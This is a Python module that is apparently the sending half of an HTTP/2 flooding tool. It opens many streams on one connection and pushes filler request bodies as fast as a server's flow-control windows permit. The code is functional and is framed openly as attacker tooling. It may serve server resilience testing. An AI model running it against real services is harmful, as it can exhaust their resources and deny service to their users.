"""As much of HTTP/2 as an attacker needs: calls on many streams of one connection, as fast as the pod's windows let them."""

import contextlib
import struct

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 7, 8
ACK, END_HEADERS = 1, 4
INITIAL_WINDOW_SIZE = 4
# RFC 9113, sections 6.9.2 and 4.2: what holds until the other side says otherwise.
WINDOW, LARGEST_FRAME = 65_535, 16_384


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(value):
    assert len(value) < 127, value
    return bytes([len(value)]) + value.encode()


def block(fields):
    """HPACK: literals without indexing."""
    return b"".join(b"\0" + text(name) + text(value) for name, value in fields.items())


class Sender:
    """One connection: a call on each stream, whose body begins with `begun` and goes on to `length` bytes."""

    def __init__(self, socket, fields, streams, begun, length):
        self.socket, self.begun, self.length = socket, begun, length
        self.sent, self.window, self.stream_window = 0, WINDOW, WINDOW
        self.waiting, self.arrived = PREFACE + frame(SETTINGS, 0, 0, b""), b""
        # Stream → bytes that it has sent, and by how much the pod has widened its window.
        self.open = {2 * number + 1: [0, 0] for number in range(streams)}
        for stream in self.open:
            self.waiting += frame(HEADERS, END_HEADERS, stream, block(fields))

    def go_on(self):
        """Sends what the windows let through, without waiting for anything."""
        with contextlib.suppress(OSError):
            self.listen()
            for stream, state in self.open.items():
                self.fill(stream, state)
            while self.waiting:
                self.waiting = self.waiting[self.socket.send(self.waiting) :]

    def fill(self, stream, state):
        while len(self.waiting) < 4 * LARGEST_FRAME:
            size = min(LARGEST_FRAME, self.window, self.stream_window + state[1] - state[0], self.length - state[0])
            if size <= len(self.begun):
                return
            piece = (self.begun if state[0] == 0 else b"").ljust(size, b"x")
            self.waiting += frame(DATA, 0, stream, piece)
            self.window -= size
            state[0] += size
            self.sent += size

    def listen(self):
        with contextlib.suppress(BlockingIOError):
            while data := self.socket.recv(65_536):
                self.arrived += data
        while len(self.arrived) >= 9:
            length = int.from_bytes(self.arrived[:3], "big")
            if len(self.arrived) < 9 + length:
                return
            kind, stream = self.arrived[3], int.from_bytes(self.arrived[5:9], "big") & 0x7FFFFFFF
            self.take(kind, stream, self.arrived[9 : 9 + length])
            self.arrived = self.arrived[9 + length :]

    def take(self, kind, stream, payload):
        if kind == WINDOW_UPDATE:
            widened = int.from_bytes(payload, "big")
            if stream == 0:
                self.window += widened
            elif stream in self.open:
                self.open[stream][1] += widened
        elif kind == SETTINGS:
            # The pod holds to a wider window once it knows that this side has seen it.
            self.waiting += frame(SETTINGS, ACK, 0, b"") if payload else b""
            for at in range(0, len(payload), 6):
                name, value = struct.unpack(">HI", payload[at : at + 6])
                if name == INITIAL_WINDOW_SIZE:
                    self.stream_window = value
        elif kind == RST_STREAM:
            self.open.pop(stream, None)
